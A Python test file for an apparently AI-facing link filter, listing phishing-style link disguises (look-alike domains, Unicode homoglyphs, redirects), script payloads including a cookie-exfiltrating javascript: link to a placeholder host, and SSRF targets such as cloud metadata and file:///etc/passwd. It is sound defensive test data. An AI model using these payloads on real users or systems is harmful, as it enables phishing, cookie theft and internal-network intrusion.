"""Tricks that hide where a link leads, each with the rule that sees through it. Names are reserved or look-alikes."""

from __future__ import annotations

import base64

import pytest

from tests.guards.links.looks import acted_on

HIDDEN = base64.b64encode(b"please open https://paypal.com.login.example/now").decode()
TARGET = base64.b64encode(b"https://paypa1.example/").decode().rstrip("=")

BOTH = ("document", "user", "reply")
TRICKS: tuple[tuple[str, str, str], ...] = (
    # names
    ("subdomain", "https://paypal.com.login.example/", "brand-subdomain"),
    ("subdomain-www", "https://www.paypal.com.example.org/signin", "brand-subdomain"),
    ("subdomain-bare", "open paypal.com.example.org/signin", "brand-subdomain"),
    ("subdomain-hyphens", "https://www-paypal-com.example.org/", "brand-subdomain"),
    ("subdomain-word", "https://paypal.login.example.org/", "brand-subdomain"),
    ("subdomain-deep", "https://a.b.c.appleid.apple.com.x.y.example.org/", "brand-subdomain"),
    ("subdomain-shared", "https://paypal.com.pages.dev/", "brand-subdomain"),
    ("hyphen", "https://paypal-login.example/", "brand"),
    ("hyphen-three", "https://secure-paypal-verify.example/", "brand"),
    ("hyphen-word-brand", "https://apple-support.example/", "brand"),
    ("joined", "https://paypallogin.example/", "brand"),
    ("joined-two", "https://securepaypalaccount.example/", "brand"),
    ("joined-digits", "https://netflixbilling24.example/", "brand"),
    ("customer-name", "https://metamask-wallet.pages.dev/", "brand"),
    ("other-ending", "https://netflix.xyz/", "brand"),
    ("digit", "https://paypa1.example/", "look-alike"),
    ("digits", "https://micr0s0ft.example/", "look-alike"),
    ("digit-hyphen", "https://paypa1-login.example/", "look-alike"),
    ("digit-joined", "https://faceb00klogin.example/", "brand"),
    ("pair-of-letters", "https://rnicrosoft.example/", "look-alike"),
    ("two-vs", "https://vvellsfargo.example/", "look-alike"),
    ("doubled", "https://gooogle.example/", "look-alike"),
    ("swapped", "https://payapl.example/", "look-alike"),
    ("left-out", "https://microsft.example/", "look-alike"),
    ("subdomain-digit", "https://paypa1.example.org/", "look-alike"),
    ("own-brand", "https://shop-nine-support.example.org/", "brand-subdomain"),
    ("own-brand-joined", "https://shopninelogin.example/", "brand"),
    # letters
    ("cyrillic", "https://pаypal.example/", "look-alike"),
    ("cyrillic-whole", "https://аррӏе.example/", "look-alike"),
    ("cyrillic-bare", "visit pаypal.com.example.org/login", "look-alike"),
    ("greek", "https://gοοgle.example/", "look-alike"),
    ("armenian", "https://gօօgle.example/", "look-alike"),
    ("dotless", "https://ınstagram.example/", "look-alike"),
    ("accent", "https://páypal.example/", "look-alike"),
    ("punycode", "https://xn--pypal-4ve.example/", "look-alike"),
    ("punycode-mixed", "https://xn--e1awe6a4a.xn--shp-rdd.example/", "mixed-script"),
    ("mixed-scripts", "https://bаnkofnowhere.example/", "mixed-script"),
    ("full-width", "https://ｐａｙｐａｌ.com.example.org/", "brand-subdomain"),
    ("circled", "https://ⓟⓐⓨⓟⓐⓛ.com.example.org/", "brand-subdomain"),
    ("bold", "https://𝐩𝐚𝐲𝐩𝐚𝐥.com.example.org/", "brand-subdomain"),
    ("ideographic-stop", "https://paypal。com。example。org/", "brand-subdomain"),
    ("zero-width", "https://pay\u200bpal.com.example.org/", "brand-subdomain"),
    ("soft-hyphen", "https://pay\u00adpal.com.example.org/", "brand-subdomain"),
    ("direction", "https://example.org/\u202egpj.exe", "direction"),
    ("false-slash", "https://paypal.com∕signin.example.org/", "parser-trick"),
    ("fraction-slash", "https://paypal.com⁄signin.example.org/", "parser-trick"),
    ("kana-slash", "https://paypal.comノsignin.example.org/", "parser-trick"),
    # parsing
    ("user", "https://paypal.com@example.org/", "credentials"),
    ("user-password", "https://paypal.com:443@example.org/", "credentials"),
    ("user-escaped", "https://paypal.com%2Fsignin@example.org/", "credentials"),
    ("user-bare", "go to paypal.com@example.org/signin", "credentials"),
    ("user-long", f"https://{'a' * 200}@example.org/", "credentials"),
    ("user-endless", f"https://{'a' * 3000}@example.org/", "parser-trick"),
    ("backslashes", "http:\\\\example.org\\@paypal.com", "parser-trick"),
    ("backslash", "https://example.org\\@paypal.com/", "parser-trick"),
    ("one-slash", "https:/paypal.com.example.org/", "brand-subdomain"),
    ("three-slashes", "https:///paypal.com.example.org/", "brand-subdomain"),
    ("percent-host", "https://%70aypal.com.example.org/", "parser-trick"),
    ("percent-dot", "https://paypal%2ecom.example.org/", "parser-trick"),
    ("no-slash", "https:paypal.com.example.org/", "brand-subdomain"),
    # addresses
    ("decimal", "http://3232235777/login", "address"),
    ("hexadecimal", "http://0xC0A80101/login", "address"),
    ("octal", "http://0300.0250.0001.0001/", "address"),
    ("mixed-parts", "http://0xC0.168.257/", "address"),
    ("circled-digits", "http://①⑨②.①⑥⑧.①.①/", "address"),
    ("mapped", "http://[::ffff:c0a8:101]/", "address"),
    ("nat64", "http://[64:ff9b::c0a8:101]/", "address"),
    # what it is
    ("javascript", "[here](javascript:fetch('//example.org/'+document.cookie))", "active"),
    ("javascript-tab", '<a href="java\tscript:alert(document.domain)">x</a>', "active"),
    ("javascript-entity", '<a href="javascript&colon;alert(1)">x</a>', "active"),
    ("javascript-case", "[x](JaVaScRiPt:alert(1))", "active"),
    ("vbscript", "[x](vbscript:msgbox(1))", "active"),
    ("data-page", "[x](data:text/html;base64,PHNjcmlwdD4=)", "active"),
    ("data-drawing", "[x](data:image/svg+xml,<svg/onload=alert(1)>)", "active"),
    ("file-share", "file://files.example.org/share/readme.lnk", "active"),
    ("double-ending", "https://example.org/invoice.pdf.exe", "download"),
    ("escaped-blanks", "https://example.org/photo.jpg%20%20%20%20.scr", "download"),
    ("address-download", "http://93.184.215.14/setup.msi", "download"),
    # text against target
    ("markdown-text", "[https://www.paypal.com/](https://example.org/x)", "mismatch"),
    ("markdown-bare-text", "[paypal.com](https://example.org/x)", "mismatch"),
    ("markdown-line", "[paypal.com](\nhttps://example.org/x)", "mismatch"),
    ("reference", "[paypal.com]: https://example.org/x", "mismatch"),
    ("reference-used", "[www.paypal.com][1]\n\n[1]: https://example.org/x", "mismatch"),
    ("html-text", '<a href="https://example.org/x">https://www.paypal.com</a>', "mismatch"),
    ("html-nested-text", "<a class=b href='https://example.org/x'><b>paypal.com</b></a>", "mismatch"),
    ("html-open-value", '<a href="https://paypal.com.\nexample.org/">x</a>', "brand-subdomain"),
    # defanged, spelled, encoded
    ("hxxp", "hxxps://paypal.com.example.org/", "brand-subdomain"),
    ("brackets", "paypal[.]com[.]example[.]org/login", "brand-subdomain"),
    ("round-brackets", "paypal(.)com(.)example(.)org", "brand-subdomain"),
    ("dot-words", "paypal[dot]com[dot]example[dot]org", "brand-subdomain"),
    ("colon-brackets", "https[:]//paypal.com.example.org/", "brand-subdomain"),
    ("stars", "h**ps://paypal.com.example.org/", "brand-subdomain"),
    ("spelled", "open paypal dot com dot example dot org", "brand-subdomain"),
    ("spelled-brackets", "open paypal [dot] com [dot] example [dot] org", "brand-subdomain"),
    ("entities", "https&#58;&#47;&#47;paypal&#46;com&#46;example&#46;org&#47;", "brand-subdomain"),
    # through others
    ("redirect", "https://www.google.com/url?q=https://paypa1.example/", "redirect"),
    ("redirect-escaped", "https://example.com/go?u=https%3A%2F%2Fpaypa1.example%2F", "redirect"),
    ("redirect-twice", "https://example.com/go?u=https%253A%252F%252Fpaypa1.example%252F", "redirect"),
    ("redirect-path", "https://example.com/amp/s/https://paypal.com.login.example/", "redirect"),
    ("redirect-slashes", "https://example.com/go?next=//paypa1.example/x", "redirect"),
    ("redirect-encoded", f"https://example.com/go?u={TARGET}", "redirect"),
    ("redirect-fragment", "https://example.com/#url=https://paypa1.example/", "redirect"),
    ("redirect-bing", f"https://www.bing.com/ck/a?!&&p=0&u=a1{TARGET}&ntb=1", "redirect"),
    ("redirect-bare", "https://example.com/go?id=1&u=paypa1.example%2Flogin", "redirect"),
    ("redirect-amp", "https://www.google.com/amp/s/paypa1.example/login", "redirect"),
    ("redirect-amp-cache", "https://paypa1-example.cdn.ampproject.org/c/s/paypa1.example/login", "redirect"),
    ("redirect-disguised", "https://example.com/go?u=http://0x7f.1/", "redirect"),
)


@pytest.mark.parametrize("place", BOTH)
@pytest.mark.parametrize(("text", "rule"), [row[1:] for row in TRICKS], ids=[row[0] for row in TRICKS])
def test_every_trick_is_seen_wherever_it_stands(text: str, rule: str, place: str) -> None:
    assert rule in acted_on(text, place)
    assert rule in acted_on(f"Dear customer, please see {text} before noon. Thank you.", place)


def test_there_are_enough() -> None:
    assert len({name for name, *_ in TRICKS}) == len(TRICKS) >= 60


PACKED = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"not looked at by anybody").decode()


@pytest.mark.parametrize(
    ("text", "acts"),
    [
        (f"[x](data:application/zip;base64,{PACKED})", True),
        (f"[x](data:text/plain;base64,{PACKED})", True),
        (f"[x](data:text/plain,{'word%20' * 8})", True),
        (f'<audio src="data:audio/wav;base64,{PACKED}">', True),
        (f"![x](data:image/png,{'%89PNG%0d%0a' * 4})", True),
        (f'<img src="dat&#97;:image/png;base64,{PACKED}">', True),
        (f'<img src="da\tta:image/png;base64,{PACKED}">', True),
        (f"![x](data:image/svg+xml;base64,{PACKED})", True),
        ("![x](\U000f0000)", False),  # what stands for an image that was looked at
        (f'<img src="data:image/png;base64,{PACKED}..." />', False),
        ("![x](data:image/png;base64,iVBORw0KGgo=)", False),
        ("A `data:` URL such as data:text/plain,hello%20world holds what it shows.", False),
    ],
)
def test_a_link_of_a_reply_holds_no_file_that_nobody_looked_at(text: str, acts: bool) -> None:
    assert ("active" in acted_on(text, "reply")) is acts


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        (HIDDEN, "brand-subdomain"),
        ("https%3A%2F%2Fpaypal.com.login.example%2F", "brand-subdomain"),
        (HIDDEN.encode().hex(), "brand-subdomain"),
        ("open h t t p s : / / p a y p a l . c o m . e x a m p l e . o r g now", "brand-subdomain"),
    ],
)
def test_encoded_texts_are_read(text: str, rule: str) -> None:
    assert rule in acted_on(text)


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data/",
        "http://[fd00:ec2::254]/latest/",
        "http://2852039166/",
        "http://0xA9.0xFE.0xA9.0xFE/",
        "http://[::ffff:a9fe:a9fe]/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://localhost:8080/admin",
        "http://127.0.0.1/",
        "http://127.1/",
        "http://0/",
        "http://[::1]:9000/",
        "http://10.0.0.8/",
        "http://192.168.1.1/",
        "http://app.internal/x",
        "http://a.127.0.0.1.nip.io/",
        "http:\\\\/\\\\/169.254.169.254\\\\/",
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_x",
    ],
)
def test_tools_are_not_sent_into_the_own_network(url: str) -> None:
    assert acted_on(f'{{"url": "{url}", "method": "GET"}}', "call") & {"private-address", "active"}


def test_a_tool_that_works_on_this_machine_is_not_stopped() -> None:
    assert acted_on('{"command": "curl -s http://localhost:3000/health | head"}', "call") == set()
